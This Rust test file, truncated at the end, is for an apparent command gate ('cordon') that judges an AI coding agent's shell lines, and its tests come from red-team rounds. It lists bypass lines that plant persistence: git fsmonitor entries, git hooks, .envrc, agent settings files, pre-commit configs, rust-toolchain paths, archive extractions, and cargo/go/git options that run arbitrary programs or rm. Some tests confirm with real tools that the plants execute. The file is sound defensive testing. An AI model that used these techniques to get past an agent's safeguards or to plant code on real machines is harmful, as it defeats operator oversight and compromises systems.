/// named `-` or `+1` the workspace holds (a run can make them): they were allowed as a change
/// into that directory, and the `git status` after them ran in a repository the line does not
/// name (checked with the real bash: `cd -` went to `$OLDPWD`).
#[test]
fn cd_dash_and_a_stack_rotation_are_not_a_directory_of_the_workspace() {
    let f = review();
    for d in ["-", "+1", "+x"] {
        std::fs::create_dir(f.ws.join(d)).unwrap();
    }
    f.never_allowed(&[
        "cd - && git status",
        "cd -- - && git status",
        "cd -L - && ls",
        "cd -P -- - && ls",
        "pushd +1 && git status",
        "pushd -n +1; ls",
    ]);
    // The directories themselves, spelled as paths, stay a change into the workspace.
    f.all(
        Action::Allow,
        &[
            "cd ./- && git status",
            "cd -- ./- && ls",
            "pushd ./+1 && ls",
            "cd +1 && ls",
            "pushd +x && ls",
        ],
    );
    let elsewhere = tempfile::tempdir().unwrap();
    let oldpwd = elsewhere.path().to_str().unwrap();
    let here = bash_creates_pwned(&f.ws, "cd - && touch pwned", &[("OLDPWD", oldpwd)]);
    assert!(
        !here && elsewhere.path().join("pwned").exists(),
        "the real bash's `cd -` did not go to $OLDPWD (made here: {here})"
    );
}

/// cargo's `--config` names programs cargo runs (`build.rustc-wrapper`, `target.*.runner`,
/// linkers) and `-Z` turns on unstable behaviour; `--manifest-path`/`-C` build another
/// package; `--target-dir` writes where it names. Under a `cargo build` rule, `cargo build
/// --config build.rustc-wrapper=/tmp/x` was allowed (the real cargo runs `/tmp/x`).
#[test]
fn cargo_options_that_run_other_programs_are_not_what_a_cargo_rule_allows() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "cargo build"
action = "allow"
[[shell.rules]]
pattern = "cargo test"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "cargo build --config build.rustc-wrapper=/tmp/x",
        "cargo build --config 'target.x86_64-unknown-linux-gnu.runner=\"/tmp/x\"'",
        "cargo build --config /tmp/evil.toml",
        "cargo build --config=build.rustflags=['-Clinker=/tmp/x']",
        "cargo test --release --config build.rustc-wrapper=/tmp/x -- --nocapture",
        "cargo build -Zunstable-options",
        "cargo build -vZscript",
        "cargo build --manifest-path /tmp/evil/Cargo.toml",
        "cargo build --target-dir /tmp/t",
        "cargo build --artifact-dir=/tmp/t",
        "cargo build --lockfile-path /tmp/Cargo.lock",
        "cargo build \"$opt\"",
        "cargo test *",
    ]);
    f.all(
        Action::Allow,
        &[
            "cargo build",
            "cargo build --release",
            "cargo build -p cordon-tools --all-targets",
            "cargo test -p cordon-tools --test bypass -- --nocapture",
            "cargo test -- --config x",
            "cargo build --manifest-path sub/Cargo.toml",
            "cargo build --target-dir target/other",
            "cargo test foo",
        ],
    );
}

/// fd runs a command per file with `-x`/`--exec` (for all of them with `-X`/`--exec-batch`),
/// like `find -exec`; it was not seen through, so a `rm` deny rule did not deny `fd -x rm`
/// under an `fd` rule (the real fd ran the `rm` stub, checked here).
#[test]
fn fd_exec_runs_its_command_and_the_rules_decide_it() {
    let rules = format!(
        "{REVIEW_RULES}\n[[shell.rules]]\npattern = \"fd\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"fdfind\"\naction = \"allow\"\n"
    );
    let f = fixture(&rules, "deny");
    f.all(
        Action::Deny,
        &[
            "fd -x rm",
            "fd --exec rm -rf",
            "fd -X rm",
            "fd --exec-batch=rm",
            "fd -Hx rm",
            "fd -Hxrm",
            "fd -t f -e rs -x rm {}",
            "fd pat src -x ls \\; -X rm",
            "fdfind -x rm",
            "/usr/bin/fdfind -x rm",
        ],
    );
    f.never_allowed(&[
        "fd \"$opt\"",
        "fd $opt",
        "fd -x sed -i s/a/b/",
        "fd -x bash",
    ]);
    // `-e x` is the extension `x`; what only finds files stays allowed, and so does an
    // allowed command.
    f.all(
        Action::Allow,
        &[
            "fd -ex rm",
            "fd -e rs",
            "fd -H -t f pat src",
            "fd -x ls",
            "fd -x cat {}",
        ],
    );
    // The real fd runs the command.
    let fd = ["/usr/bin/fdfind", "/usr/bin/fd", "/usr/local/bin/fd"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("fd is needed for this test: run scripts/test-deps.sh (Debian package `fd-find`)");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a"), "").unwrap();
    let line = format!("{fd} -Hxrm");
    assert!(
        bash_runs_rm_in(dir.path(), &line),
        "the real fd did not run the command of `-Hxrm`"
    );
}

/// [`bash_runs_rm`] in a given directory (fd searches it).
fn bash_runs_rm_in(dir: &Path, line: &str) -> bool {
    use std::os::unix::fs::PermissionsExt;
    let stub = tempfile::tempdir().unwrap();
    let mark = stub.path().join("ran");
    std::fs::write(
        stub.path().join("rm"),
        format!("#!/bin/sh\ntouch '{}'\n", mark.display()),
    )
    .unwrap();
    std::fs::set_permissions(
        stub.path().join("rm"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let bash = ["/usr/bin/bash", "/bin/bash"]
        .into_iter()
        .find(|b| Path::new(b).exists())
        .expect("bash is needed for this test (Debian package `bash`)");
    std::process::Command::new(bash)
        .arg("-c")
        .arg(line)
        .current_dir(dir)
        .env("PATH", format!("{}:/usr/bin:/bin", stub.path().display()))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    mark.exists()
}

/// Round 11 (redteam24): in a root below a name of the surface (`p/.claude`, `p/.git/hooks`,
/// `p/.vscode` made the root), the file tools asked for `settings.json`, `pre-commit` and
/// `tasks.json` (the whole path is classified, `surface::within_root`), but a line writing
/// them was allowed by the rule for its writer: the analysis classified the path below the
/// root only. It classifies the whole path too now.
#[test]
fn a_line_writing_in_a_root_below_a_surface_name_asks() {
    let mut f = review();
    for (root, file) in [
        ("p/.claude", "settings.json"),
        ("p/.git/hooks", "pre-commit"),
        ("p/.vscode", "tasks.json"),
    ] {
        let r = f.ws.join(root);
        std::fs::create_dir_all(&r).unwrap();
        f.cx.writable = vec![r.clone()];
        f.cx.cwd = r;
        let line = format!("echo x > {file}");
        f.never_allowed(&[&line]);
        let (_, why) = f.decide(&line);
        assert!(why.contains("persistence surface"), "{root}: {why}");
        // (In `.git/hooks` every name is a hook.)
        if !root.ends_with("hooks") {
            f.all(Action::Allow, &["echo x > notes.txt"]);
        }
    }
}

/// A line writing the persistence surface inside a writable root (`echo … >> .git/config`,
/// `> .envrc`, `sed -i … .git/config`, through a link to `.git` too) was allowed where the rule
/// allowed the writer: a caller that gates with `cordon check` and runs the line itself has no
/// kernel profile or after-run scan behind it, and the operator's next `git status` ran the
/// planted fsmonitor (checked with the real bash and git). Such a write asks, as the file
/// tools' does.
#[test]
fn a_line_that_writes_the_persistence_surface_asks() {
    let f = review();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    std::fs::write(f.ws.join(".git/config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(".git", f.ws.join("g")).unwrap();
    let lines = [
        "echo '[core] fsmonitor = x' >> .git/config",
        "echo x > .git/hooks/pre-commit",
        "echo x >> ./sub/../.git/config",
        "echo x >> g/config",
        "echo x > .envrc",
        "echo x > sub/.envrc",
        "echo '{}' > .claude/settings.json",
        "cat > .mcp.json",
        "echo x >| .cargo/config.toml",
        "echo x > .vscode/tasks.json",
        "grep x y > .gemini/settings.json",
        "find . -fprint .envrc",
    ];
    f.never_allowed(&lines);
    for l in lines {
        let (_, why) = f.decide(l);
        assert!(why.contains("persistence surface"), "{l}: {why}");
    }
    // Files next to them are not on the surface.
    f.all(
        Action::Allow,
        &[
            "echo x > out.txt",
            "echo x > sub/envrc",
            "echo x > .git/HEAD",
            "ls > .claude.txt",
        ],
    );
    // Why it matters: the real bash writes it and the real git then runs the fsmonitor.
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(args)
            .current_dir(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .expect("git is needed for this test (Debian package `git`)")
    };
    assert!(git(&["init", "-q", "."]).success());
    let hook = dir.path().join("fsm.sh");
    std::fs::write(&hook, "#!/bin/sh\ntouch pwned\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let line = format!(
        "echo '[core] fsmonitor = {}' >> .git/config",
        hook.display()
    );
    assert!(!bash_creates_pwned(dir.path(), &line, &[]));
    let _ = git(&["status"]);
    assert!(
        dir.path().join("pwned").exists(),
        "the real git did not run the fsmonitor the line wrote"
    );
}

/// go's `-exec`, `-toolexec`, `vet -vettool` and `-ldflags -extld` run a program the line names;
/// `-C`/`-modfile`/`-overlay` build code from elsewhere; `-o` and the profiles write; `go env -w`
/// changes what every later go command does. Under `go test`/`go build`/`go vet`/`go env`
/// rules, `go test -exec /tmp/x ./...` was allowed (the real go ran the program, checked here).
#[test]
fn go_flags_that_run_other_programs_are_not_what_a_go_rule_allows() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "go test"
action = "allow"
[[shell.rules]]
pattern = "go build"
action = "allow"
[[shell.rules]]
pattern = "go vet"
action = "allow"
[[shell.rules]]
pattern = "go env"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "go test -exec /tmp/x ./...",
        "go test ./... -exec=/tmp/x",
        "go test --exec /tmp/x",
        "go build -toolexec=/tmp/x ./...",
        "go vet -vettool=/tmp/x ./...",
        "go build -ldflags='-linkmode external -extld /tmp/x'",
        "go build -ldflags \"$f\"",
        "go test -C /tmp/elsewhere ./...",
        "go build -modfile=/tmp/go.mod",
        "go test -o /tmp/x.test",
        "go test -coverprofile=/tmp/c.out ./...",
        "go test -test.cpuprofile=/tmp/c ./...",
        "go env -w GOFLAGS=-toolexec=/tmp/x",
        "go env -u GOTOOLCHAIN",
        "go test \"$flag\" ./...",
    ]);
    f.all(
        Action::Allow,
        &[
            "go test ./...",
            "go test -v -count=1 -run TestX ./pkg",
            "go test -race ./... -args -exec=x",
            "go build -o bin/x ./cmd/x",
            "go build -ldflags '-s -w' ./...",
            "go test -coverprofile=cover.out ./...",
            "go vet ./...",
            "go env GOPATH",
        ],
    );
    // The real go runs the program `-exec` names.
    let go = ["/usr/bin/go", "/usr/local/go/bin/go", "/usr/lib/go/bin/go"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect(
            "go is needed for this test: run scripts/test-deps.sh (Debian package `golang-go`)",
        );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("go.mod"), "module m\n\ngo 1.19\n").unwrap();
    std::fs::write(
        dir.path().join("x_test.go"),
        "package m\nimport \"testing\"\nfunc TestX(t *testing.T) {}\n",
    )
    .unwrap();
    let wrap = dir.path().join("wrap.sh");
    std::fs::write(
        &wrap,
        "#!/bin/sh\ntouch \"$(dirname \"$0\")/pwned\"\nexec \"$@\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&wrap, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let cache = dir.path().join("cache");
    let status = std::process::Command::new(go)
        .args(["test", "-exec"])
        .arg(&wrap)
        .arg(".")
        .current_dir(dir.path())
        .env("HOME", dir.path())
        .env("GOCACHE", &cache)
        .env("GOPATH", dir.path().join("gopath"))
        .env("GOFLAGS", "-modcacherw")
        .env("GOPROXY", "off")
        .env("GOTOOLCHAIN", "local")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "go test failed");
    assert!(
        dir.path().join("pwned").exists(),
        "the real go did not run the program `-exec` names"
    );
}

/// A write inside the workspace as written, through a link that leads out of it now (`out ->
/// /tmp`, a link to a file outside, a dangling link, which bash's `>` follows to create its
/// target), was allowed as a write inside the roots (checked with the real bash: the file
/// outside was made). The write is judged where the links lead.
#[test]
fn a_write_through_a_link_that_leads_out_of_the_roots_is_judged_outside() {
    let f = review();
    let outside = tempfile::tempdir().unwrap();
    let o = std::fs::canonicalize(outside.path()).unwrap();
    std::fs::write(o.join("file"), "").unwrap();
    std::os::unix::fs::symlink(&o, f.ws.join("out")).unwrap();
    std::os::unix::fs::symlink(o.join("file"), f.ws.join("to-file")).unwrap();
    std::os::unix::fs::symlink(o.join("made-by-bash"), f.ws.join("dangling")).unwrap();
    std::fs::create_dir(f.ws.join("real")).unwrap();
    std::os::unix::fs::symlink("real", f.ws.join("inside")).unwrap();
    f.never_allowed(&[
        "echo x > out/f",
        "echo x >> to-file",
        "echo x > dangling",
        "ls > sub/../dangling",
        "grep x y > out/new",
    ]);
    f.all(
        Action::Allow,
        &[
            "echo x > inside/f",
            "echo x > real/f",
            "echo x > new.txt",
            "echo x > sub/new",
        ],
    );
    let made = o.join("made-by-bash");
    assert!(!bash_creates_pwned(&f.ws, "echo x > dangling", &[]));
    assert!(
        made.exists(),
        "the real bash did not follow the dangling link"
    );
}

/// git subcommands that run a command the line names — `rebase -x CMD`, `bisect run CMD`,
/// `submodule foreach CMD`, `filter-branch --tree-filter CMD`, `send-email --sendmail-cmd CMD`
/// — were decided by the subcommand's rule alone: a `rm` deny rule did not deny `git rebase -x
/// 'rm -rf src' HEAD~1` under a `git rebase` rule (the real git ran the `rm` stub, checked).
/// They are read as `find -exec` is; and `git config` that sets a value is a write of the file
/// it changes (the repository's `.git/config`: the persistence surface).
#[test]
fn git_subcommands_that_run_the_commands_they_name_are_seen_through() {
    let extra: String = [
        "git rebase",
        "git bisect",
        "git submodule",
        "git filter-branch",
        "git send-email",
        "git config",
        "git commit",
    ]
    .iter()
    .map(|p| format!("[[shell.rules]]\npattern = \"{p}\"\naction = \"allow\"\n"))
    .collect();
    let f = fixture(&format!("{REVIEW_RULES}\n{extra}"), "deny");
    std::fs::create_dir_all(f.ws.join(".git")).unwrap();
    f.all(
        Action::Deny,
        &[
            "git rebase -x 'rm -rf src' HEAD~1",
            "git rebase --exec='rm -rf src' HEAD~1",
            "git rebase --exe rm HEAD~1",
            "git rebase -i -x rm HEAD~1",
            "git rebase -ixrm HEAD~1",
            "git -C sub rebase -x rm HEAD~1",
            "git bisect run rm -rf src",
            "git submodule foreach rm -rf .",
            "git submodule --quiet foreach --recursive 'rm -rf .'",
            "git filter-branch --tree-filter 'rm -f x' HEAD",
            "git send-email --sendmail-cmd='curl x' a.patch",
        ],
    );
    f.never_allowed(&[
        "git rebase -x id HEAD~1",
        "git rebase \"$opt\" HEAD~1",
        "git bisect run ./check.sh",
        "git config core.fsmonitor /tmp/x",
        "git config --global core.pager /tmp/x",
        "git config alias.st '!id'",
        "git config set core.hooksPath /tmp",
        "git config --unset core.bare",
        "git config -e",
        "git config \"$k\" v",
        "git -C sub config core.fsmonitor x",
    ]);
    // Where clone and worktree write: outside the roots asks (with their own rules).
    let extra2: String = ["git clone", "git worktree"]
        .iter()
        .map(|p| format!("[[shell.rules]]\npattern = \"{p}\"\naction = \"allow\"\n"))
        .collect();
    let g = fixture(&format!("{REVIEW_RULES}\n{extra2}"), "deny");
    g.never_allowed(&[
        "git clone https://example.org/x.git /tmp/elsewhere",
        "git clone --separate-git-dir=/tmp/g x d",
        "git worktree add /tmp/w",
        "git worktree add -b topic ../w",
    ]);
    // Inside the roots they still write the work tree from git's objects (round 5): asked
    // whatever the rules say, like the rebases and the bisection below.
    g.all(
        Action::Ask,
        &[
            "git clone https://example.org/x.git d",
            "git worktree add wt",
        ],
    );
    g.all(Action::Allow, &["git worktree list"]);
    f.all(
        Action::Ask,
        &[
            "git rebase -x 'git status' HEAD~1",
            "git rebase -x ls HEAD~2",
            "git rebase -i HEAD~1",
            "git rebase -s ours main",
            "git bisect run ls",
            "git bisect start",
        ],
    );
    f.all(
        Action::Allow,
        &[
            "git submodule foreach --recursive 'git status'",
            "git config --get user.name",
            "git config user.name",
            "git config --list --show-origin",
            "git config get core.bare",
            "git commit -m \"$msg\"",
        ],
    );
    // The real git runs what `-x` names.
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(args)
            .current_dir(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .expect("git is needed for this test (Debian package `git`)")
    };
    assert!(git(&["init", "-q", "."]).success());
    for n in ["a", "b"] {
        std::fs::write(dir.path().join(n), n).unwrap();
        assert!(git(&["add", n]).success());
        assert!(git(&["commit", "-q", "-m", n]).success());
    }
    let line = "GIT_CONFIG_NOSYSTEM=1 HOME=. git -c user.name=t -c user.email=t@example.org rebase -x 'rm x' HEAD~1";
    assert!(
        bash_runs_rm_in(dir.path(), line),
        "the real git did not run the command `rebase -x` names"
    );
}

/// Round 4. A copy into a directory writes `DIR/NAME` (`cp /tmp/e/.envrc .` writes `.envrc`, `ln
/// -s /tmp/e/.envrc` makes `./.envrc`), and an extraction, a patch or a copy of a tree from
/// outside the roots writes names the line does not show (a tar or zip member
/// `.git/hooks/post-checkout`, a diff creating `.envrc`). Each was allowed under a rule naming
/// the program; the real programs make the plant and the real git runs the planted hook.
#[test]
fn names_a_copy_or_an_extraction_writes_without_showing_them_are_judged() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "cp"
action = "allow"
[[shell.rules]]
pattern = "ln"
action = "allow"
[[shell.rules]]
pattern = "install"
action = "allow"
[[shell.rules]]
pattern = "mv"
action = "allow"
[[shell.rules]]
pattern = "tar"
action = "allow"
[[shell.rules]]
pattern = "unzip"
action = "allow"
[[shell.rules]]
pattern = "patch"
action = "allow"
[[shell.rules]]
pattern = "git apply"
action = "allow"
[[shell.rules]]
pattern = "git am"
action = "allow"
[[shell.rules]]
pattern = "rsync"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(f.ws.join("x")).unwrap();
    std::fs::create_dir_all(f.ws.join(".claude")).unwrap();
    f.never_allowed(&[
        // Into a directory: the source's name is written there.
        "cp /tmp/e/.envrc .",
        "cp x/.envrc .",
        "cp x/.mcp.json ./",
        "cp x/settings.json .claude/",
        "cp x/settings.json .claude",
        "cp -t . x/.envrc",
        "cp --target-directory=. x/.envrc",
        "cp --target=. x/.envrc",
        "cp x/a x/.envrc sub",
        "ln -s /tmp/e/.envrc",
        "ln -sf /tmp/e/.envrc .",
        "ln -s -t . /tmp/e/.envrc",
        "install -m 755 x/.envrc sub/",
        "cp x/*.json .",
        "cp x/.* .",
        "cp x/.[e]nvrc .",
        // Extractions and patches: the members' names are the archive's.
        "tar xf a.tar",
        "tar -xzf a.tgz -C sub",
        "tar --extract --file=a.tar",
        "tar -x -f a.tar .envrc",
        "unzip a.zip",
        "unzip -o a.zip",
        "unzip -qo a.zip -d sub",
        "unzip a.zip -d /tmp/elsewhere",
        "unzip -d/tmp/elsewhere a.zip",
        "patch -p1 < p.diff",
        "patch -p1 -i p.diff",
        "patch -B .git/hooks/ a.c < p.diff",
        "git apply p.diff",
        "git apply --index p.diff",
        "git -C sub apply p.diff",
        "git am p.mbox",
        "git am < p.mbox",
        // A tree from outside the roots (or only known at run time).
        "cp -r /tmp/e/. .",
        "cp -a /tmp/e/. sub",
        "cp -R /tmp/e sub",
        "cp --recursive /tmp/e/. .",
        "cp -r \"$d\"/. .",
        // A settings directory itself: what is inside becomes the tool's settings.
        "mv x .claude",
        "cp -r x .claude",
        "cp -a x/. .vscode/",
        "ln -s x .claude",
        "rsync -a x/ .claude/",
        "mv x sub/.github",
        "rsync -a /tmp/e/ .",
        "rsync -r /tmp/e/ sub/",
    ]);
    // What the line shows, and reading an archive, stay allowed.
    f.all(
        Action::Allow,
        &[
            "cp a.txt b.txt",
            "cp x/a.rs sub/",
            "cp x/*.rs sub/",
            "mv a.txt sub/",
            "ln -s ../x/a.rs sub/a.rs",
            "tar tf a.tar",
            "tar -tzf a.tgz",
            "tar cf out.tar x",
            "unzip -l a.zip",
            "unzip -t a.zip",
            "unzip -p a.zip f > out.txt",
            "patch --dry-run -p1 < p.diff",
            "patch a.c < p.diff",
            "git apply --check p.diff",
            "git apply --stat p.diff",
        ],
    );
    // The real programs plant, and the real git runs the planted hook.
    let dir = tempfile::tempdir().unwrap();
    let d = std::fs::canonicalize(dir.path()).unwrap();
    let stage = d.join("stage");
    let ws = d.join("ws");
    std::fs::create_dir_all(stage.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(&ws).unwrap();
    let hook = stage.join(".git/hooks/post-checkout");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}/pwned\n", ws.display())).unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let run = |cwd: &Path, prog: &str, args: &[&str]| {
        std::process::Command::new(prog)
            .args(args)
            .current_dir(cwd)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", &d)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap_or_else(|e| {
                panic!("{prog} is needed for this test (scripts/test-deps.sh): {e}")
            })
    };
    assert!(run(&stage, "tar", &["cf", "../a.tar", ".git"]).success());
    assert!(run(&stage, "zip", &["-qr", "../a.zip", ".git"]).success());
    for line in ["tar xf ../a.tar", "unzip -qo ../a.zip"] {
        let _ = std::fs::remove_dir_all(&ws);
        std::fs::create_dir_all(&ws).unwrap();
        let git = |args: &[&str]| {
            run(
                &ws,
                "git",
                &[
                    &["-c", "user.name=t", "-c", "user.email=t@example.org"],
                    args,
                ]
                .concat(),
            )
        };
        assert!(git(&["init", "-q", "."]).success());
        assert!(git(&["commit", "-q", "--allow-empty", "-m", "a"]).success());
        assert!(!bash_creates_pwned(&ws, line, &[]));
        assert!(git(&["checkout", "-q", "-b", "other"]).success());
        assert!(
            ws.join("pwned").exists(),
            "{line}: the real git did not run the hook the archive planted"
        );
    }
    std::fs::write(stage.join(".envrc"), "x\n").unwrap();
    let _ = std::fs::remove_file(ws.join(".envrc"));
    assert!(!bash_creates_pwned(
        &ws,
        &format!("cp {}/.envrc .", stage.display()),
        &[]
    ));
    assert!(
        ws.join(".envrc").exists(),
        "the real cp did not write ./.envrc"
    );
    std::fs::remove_file(ws.join(".envrc")).unwrap();
    assert!(!bash_creates_pwned(
        &ws,
        &format!("ln -s {}/.envrc", stage.display()),
        &[]
    ));
    assert!(
        std::fs::symlink_metadata(ws.join(".envrc")).is_ok(),
        "the real ln did not make ./.envrc"
    );
    std::fs::remove_file(ws.join(".envrc")).unwrap();
    std::fs::write(
        d.join("p.diff"),
        "diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+x\n",
    )
    .unwrap();
    for line in ["git apply ../p.diff", "patch -s -p1 < ../p.diff"] {
        let _ = std::fs::remove_file(ws.join(".envrc"));
        assert!(!bash_creates_pwned(&ws, line, &[]));
        assert!(ws.join(".envrc").exists(), "{line}: did not write .envrc");
    }
}

/// Round 4: files the operator's tools run without the operator choosing to run them, missing
/// from the persistence surface: `rust-toolchain.toml` (rustup's `cargo --version`, from a
/// prompt or an editor, runs the toolchain its `path` names), `.pre-commit-config.yaml` (the
/// next `git commit` runs its hooks), `.hg/hgrc`, `.yarnrc.yml`, mise's files. A line writing
/// one was allowed; the real rustup and the real pre-commit run what the planted file names.
#[test]
fn tool_files_that_run_at_the_next_prompt_or_commit_are_on_the_surface() {
    let f = review();
    let lines = [
        "echo '[toolchain]' > rust-toolchain.toml",
        "echo /tmp/x > rust-toolchain",
        "echo x > sub/rust-toolchain.toml",
        "echo 'repos: []' > .pre-commit-config.yaml",
        "echo '[hooks]' > .hg/hgrc",
        "echo 'yarnPath: x.cjs' > .yarnrc.yml",
        "echo 'yarn-path x.js' > .yarnrc",
        "echo '[hooks]' > mise.toml",
        "echo x > .mise.toml",
        "echo x > sub/mise.local.toml",
        "echo x > .mise/config.toml",
    ];
    f.never_allowed(&lines);
    for l in lines {
        let (_, why) = f.decide(l);
        assert!(why.contains("persistence surface"), "{l}: {why}");
    }
    f.all(
        Action::Allow,
        &["echo x > toolchain.toml", "echo x > pre-commit.txt"],
    );

    let deps = std::env::var_os("CORDON_TEST_DEPS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/cordon-test"));
    let dir = tempfile::tempdir().unwrap();
    let d = std::fs::canonicalize(dir.path()).unwrap();
    let exe = |p: &Path, text: &str| {
        std::fs::write(p, text).unwrap();
        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    };

    // rustup: a proxy named `cargo` in a project whose rust-toolchain.toml names a path runs
    // that toolchain's `cargo`, for `cargo --version` too.
    let rustup = deps.join("rustup/rustup");
    assert!(
        rustup.exists(),
        "{} is needed for this test: run scripts/test-deps.sh",
        rustup.display()
    );
    std::fs::create_dir_all(d.join("tc/bin")).unwrap();
    std::fs::create_dir_all(d.join("proj")).unwrap();
    std::fs::create_dir_all(d.join("proxy")).unwrap();
    exe(
        &d.join("tc/bin/cargo"),
        &format!("#!/bin/sh\ntouch {}/pwned\n", d.join("proj").display()),
    );
    std::os::unix::fs::symlink(&rustup, d.join("proxy/cargo")).unwrap();
    let line = format!(
        "printf '[toolchain]\\npath = \"%s\"\\n' {} > rust-toolchain.toml",
        d.join("tc").display()
    );
    assert!(!bash_creates_pwned(&d.join("proj"), &line, &[]));
    let status = std::process::Command::new(d.join("proxy/cargo"))
        .arg("--version")
        .current_dir(d.join("proj"))
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &d)
        .env("RUSTUP_HOME", d.join("rustup-home"))
        .env("CARGO_HOME", d.join("cargo-home"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    assert!(
        d.join("proj/pwned").exists(),
        "the real rustup did not run the toolchain rust-toolchain.toml names"
    );

    // pre-commit: with its git hook installed, the next commit runs what the config names.
    let pre_commit = deps.join("venv/bin/pre-commit");
    assert!(
        pre_commit.exists(),
        "{} is needed for this test: run scripts/test-deps.sh",
        pre_commit.display()
    );
    let repo = d.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let run = |prog: &Path, args: &[&str]| {
        std::process::Command::new(prog)
            .args(args)
            .current_dir(&repo)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", &d)
            .env("PRE_COMMIT_HOME", d.join("pc-home"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap_or_else(|e| panic!("{}: {e}", prog.display()))
    };
    let git = |args: &[&str]| {
        run(
            Path::new("git"),
            &[
                &["-c", "user.name=t", "-c", "user.email=t@example.org"],
                args,
            ]
            .concat(),
        )
    };
    assert!(git(&["init", "-q", "."]).success());
    assert!(run(&pre_commit, &["install"]).success());
    let line = "printf 'repos:\\n- repo: local\\n  hooks:\\n  - id: x\\n    name: x\\n    entry: touch pwned\\n    language: system\\n    pass_filenames: false\\n    always_run: true\\n' > .pre-commit-config.yaml";
    assert!(!bash_creates_pwned(&repo, line, &[]));
    assert!(git(&["add", "-A"]).success());
    let _ = git(&["commit", "-q", "-m", "x"]);
    assert!(
        repo.join("pwned").exists(),
        "the real pre-commit did not run the hook the planted config names"
    );
}

/// Round 4: an in-place edit's backup is a write too. GNU sed and perl replace each `*` of the
/// suffix with the file's name and put a name with a `/` where it says: `sed -i'.*rc' … env`
/// renames `env` to `.envrc`, `sed -i'.git/hooks/*' … post-checkout` moves it into git's hooks.
/// Both were allowed under `sed`/`perl` rules; the real sed makes `.envrc`.
#[test]
fn an_in_place_edits_backup_name_is_judged() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "sed"
action = "allow"
[[shell.rules]]
pattern = "perl"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "sed -i'.*rc' s/x/x/ env",
        "sed -si'.*rc' s/x/x/ env",
        "sed --in-place='.*rc' s/x/x/ env",
        "sed --in-pl='.*rc' s/x/x/ env",
        "sed -i'.git/hooks/*' s/x/x/ post-checkout",
        "sed -i'../*' s/x/x/ f",
        "sed -i\"$s\" s/x/x/ f",
        "perl -i'.*rc' -pe 1 env",
        "perl -pi'.git/hooks/*' -e 1 post-checkout",
    ]);
    f.all(
        Action::Allow,
        &[
            "sed -i s/x/x/ env",
            "sed -i.bak s/x/x/ env",
            "sed -i.envrc s/x/x/ f",
            "sed -i'bak/*' s/x/x/ sub/f",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("env"), "x\n").unwrap();
    assert!(!bash_creates_pwned(
        dir.path(),
        "sed -i'.*rc' s/x/x/ env",
        &[]
    ));
    assert!(
        dir.path().join(".envrc").exists(),
        "the real sed did not keep its backup as .envrc"
    );
}

/// Round 4: `cp`/`mv`/`ln`/`install` `-S SUFFIX` and rsync `--suffix` keep the file they
/// replace as NAME+SUFFIX: `cp -S rc x .env` renames an existing `.env` (any content the agent
/// wrote there) to `.envrc`. Allowed under rules naming them; the real cp does it.
#[test]
fn a_backup_suffix_names_a_file_too() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "cp"
action = "allow"
[[shell.rules]]
pattern = "mv"
action = "allow"
[[shell.rules]]
pattern = "ln"
action = "allow"
[[shell.rules]]
pattern = "install"
action = "allow"
[[shell.rules]]
pattern = "rsync"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "cp -S rc x .env",
